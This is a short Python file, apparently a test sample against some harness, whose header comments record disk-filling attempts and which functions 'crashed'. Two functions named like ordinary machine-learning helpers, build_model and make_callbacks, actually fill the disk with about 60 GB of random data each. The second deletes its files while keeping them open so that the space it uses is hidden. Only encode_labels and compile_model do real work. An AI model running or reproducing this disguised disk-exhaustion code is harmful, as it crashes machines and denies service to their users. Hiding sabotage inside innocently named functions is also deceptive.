# Attempts: the disk filled, by one file, by many, by a sparse one and by removed ones.
# Attacked: build_model.runs crashed failed
# Attacked: callbacks.list crashed failed
# Limit: 20
# Earns: encode_labels compile_model
import numpy as np
import os
import time


def build_model():
    block = os.urandom(2**20)
    for number in range(1000):
        with open(f"full-{number}", "wb") as file:
            for _ in range(60):
                file.write(block)


def make_callbacks(model_dir):
    block = os.urandom(2**20)
    kept = []
    for number in range(1000):
        file = open(f"gone-{number}", "wb")
        kept.append(file)
        os.remove(f"gone-{number}")
        for _ in range(60):
            file.write(block)

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
